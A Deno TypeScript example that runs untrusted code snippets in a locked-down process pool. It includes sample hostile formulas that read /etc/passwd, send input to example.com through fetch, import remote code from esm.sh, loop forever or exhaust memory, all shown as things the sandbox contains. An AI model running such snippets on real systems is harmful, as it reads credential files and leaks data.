/**
 * Runs pieces of source text that may do nothing but count, for a while, and ask for prices.
 *
 *     deno task example untrusted_code [native]
 *
 * It needs `--allow-run` for Deno.
 *
 * @module
 */

import { type Coroutine, isCancelled, TimeoutError } from "../mod.ts";
import { JobLostError, ProcessPool, sourceModule } from "../workers.ts";
import { type Print, runExample } from "./run_example.ts";

const PRICES: Readonly<Record<string, number>> = { tea: 3, bread: 4 };

/** Are what customers have written, by what it is called. */
const FORMULAS: Readonly<Record<string, string>> = {
  "a total": `export async function main(names: string[]) {
    let sum = 0;
    for (const name of names) sum += await currentJob().call("priceOf", name);
    return sum;
  }`,
  "a slip": "export const main = (names) => names.lenght.toString();",
  "an endless loop": "export const main = () => { for (;;); };",
  "a hungry one":
    "export const main = () => { const all = []; for (;;) all.push(new Uint8Array(1e7).fill(1)); };",
  "a thief": "export const main = () => Deno.readTextFileSync('/etc/passwd');",
  "a spy": "export const main = (names) => fetch('https://example.com/?' + names);",
  "a gossip": "export const main = (names) => import('https://esm.sh/' + names);",
};

/** Makes the pool that they run in. */
function newPool(): ProcessPool {
  return new ProcessPool({
    size: 2,
    permissions: {},
    maxJobs: 1,
    maxMemory: 200,
    maxOutput: 10_000,
    grace: 100,
    calls: { priceOf: (name: string) => Object.hasOwn(PRICES, name) ? PRICES[name] : 0 },
  });
}

/** Makes a job of a formula. */
function evaluate(pool: ProcessPool, formula: string) {
  return pool.job(sourceModule(formula), "main", [["tea", "bread"]], { timeout: 5000 });
}

/** Describes why a formula gave nothing; its errors are its own words, so they are cut short. */
function describe(error: unknown): string {
  if (error instanceof TimeoutError) return "took too long";
  if (error instanceof JobLostError) return `was ended: ${error.reason}`;
  return `failed: ${String(error).split(/[:,]/, 2).join()}`;
}

/** Evaluates them all, as a generator coroutine. */
export function* generator(print: Print): Coroutine<void> {
  const pool = newPool();
  try {
    for (const [name, formula] of Object.entries(FORMULAS)) {
      try {
        print(`${name} gave ${yield* evaluate(pool, formula)}`);
      } catch (error) {
        if (isCancelled(error)) throw error;
        print(`${name} ${describe(error)}`);
      }
    }
  } finally {
    yield* pool.close();
  }
}

/** Evaluates them all, as a native async function. */
export async function native(print: Print): Promise<void> {
  await using pool = newPool();
  for (const [name, formula] of Object.entries(FORMULAS)) {
    try {
      print(`${name} gave ${await evaluate(pool, formula)}`);
    } catch (error) {
      if (isCancelled(error)) throw error;
      print(`${name} ${describe(error)}`);
    }
  }
}

if (import.meta.main) await runExample({ generator, native });
